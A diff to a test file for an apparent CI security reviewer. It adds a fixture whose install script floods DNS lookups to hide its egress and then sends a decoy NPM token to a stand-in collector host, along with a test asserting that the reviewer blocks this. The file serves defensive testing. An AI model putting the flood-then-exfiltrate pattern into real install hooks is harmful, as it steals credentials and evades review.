@@ -54,6 +54,14 @@ for n in range({LOOKUPS}):
     except OSError:
         pass
 """
+FLOOD = """
+import socket
+for n in range(900):
+    try:
+        socket.getaddrinfo(f"www.site{n}.test", 443)  # a domain each: no tunnel
+    except OSError:
+        pass
+"""
 SEND = """
 import os, urllib.request
 urllib.request.urlopen("https://collector.exfil.test/k",
@@ -82,6 +90,8 @@ def project(install: str = "echo installed\n", test: str = "echo tested\n") -> d
 CASES: Mapping[str, tuple[dict[str, str], dict[str, str]]] = {
     "inflated": (project(), {"ci/install.sh": script(LOOK_UP + SEND)}),
     "odd-but-benign": (project(), {"ci/test.sh": script(LOOK_UP)}),
+    # Fill the report's egress entries with distinct names, then send the decoy.
+    "flooded": (project(), {"ci/install.sh": "python - <<'PY'\n" + FLOOD + SEND + "PY\n"}),
 }
 
 
@@ -124,3 +134,17 @@ def test_the_same_shape_without_a_secret_stays_clean(reviews: Callable[[str], Re
     assert review.verdict["state"] == "clean", str(review)
     assert findings(review, "critical") == set()
     assert len(odd_entries(review.report("tests"))) >= LOOKUPS, str(review)
+
+
+def test_filling_the_egress_entries_first_hides_nothing_and_is_a_flood(
+    reviews: Callable[[str], Review],
+) -> None:
+    review = reviews("flooded")
+    assert review.verdict["state"] == "blocked", str(review)
+    # The decoy's request is kept ahead of the flood, and the flood is a finding of its own.
+    assert {"decoy-egress", "evidence-flood"} <= findings(review, "critical"), str(review)
+    install = review.report("install")
+    (cut,) = [c for c in install["cuts"] if c["limit"] == "report-egress"]
+    assert cut["dropped"] > 0, cut
+    assert cut["phase"] == "install", cut
+    assert any(e["decoy_seen"] == ["NPM_TOKEN"] for e in install["egress"]), install["egress"][:3]
